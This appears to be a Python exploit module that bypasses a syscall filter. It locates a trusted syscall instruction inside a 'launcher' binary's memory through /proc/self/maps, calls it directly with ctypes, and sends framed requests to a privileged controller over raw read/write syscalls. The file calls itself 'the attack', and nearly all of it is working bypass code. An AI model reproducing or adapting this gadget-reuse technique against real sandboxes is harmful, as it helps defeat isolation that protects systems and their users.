"""Speaks to the controller past the launcher's handler: through its one system call instruction, which the filter trusts."""
import ctypes
import struct

REQUEST = 1000
SUPERVISOR, WAKE = 0xFFFFFFFE, 0xFFFFFFFF
READ, WRITE, CLONE, GETPID, PAUSE = 0, 1, 56, 39, 34
CODE = bytes.fromhex('4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3')


def find_launcher_syscall():
    for line in open('/proc/self/maps'):
        words = line.split()
        if 'x' not in words[1] or not line.rstrip().endswith('launcher'):
            continue
        start, end = (int(word, 16) for word in words[0].split('-'))
        at = ctypes.string_at(start, end - start).find(CODE)
        if at >= 0:
            return start + at
    raise SystemExit('no launcher_syscall: the attack needs another way in')


_call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7)(find_launcher_syscall())


def raw(nr, *arguments):
    return _call(nr, *(list(arguments) + [0] * (6 - len(arguments))))


def send_bytes(data):
    buffer = ctypes.create_string_buffer(data, len(data))
    return raw(WRITE, REQUEST, ctypes.addressof(buffer), len(data))


def frame(channel, seq, payload):
    return struct.pack('<III', len(payload) + 8, channel, seq) + payload


def call(signature, *arguments):
    name = signature.encode()
    return bytes([len(name)]) + name + b''.join(pack(one) for one in arguments)


def pack(argument):
    if isinstance(argument, bytes):
        return argument
    return struct.pack('<q', argument)


def string(text):
    return struct.pack('<qI', 4096, len(text)) + text


def send(channel, signature, *arguments, seq=0):
    return send_bytes(frame(channel, seq, call(signature, *arguments)))


def receive(channel, size):
    buffer = ctypes.create_string_buffer(size)
    got = raw(READ, REQUEST + 1 + 2 * channel, ctypes.addressof(buffer), size)
    return buffer.raw[:got] if got > 0 else got


def ask(channel, signature, *arguments):
    """A call and its result; the controller must want nothing else for it."""
    send(channel, signature, *arguments, seq=1)
    return struct.unpack('<q', receive(channel, 9)[1:])[0]
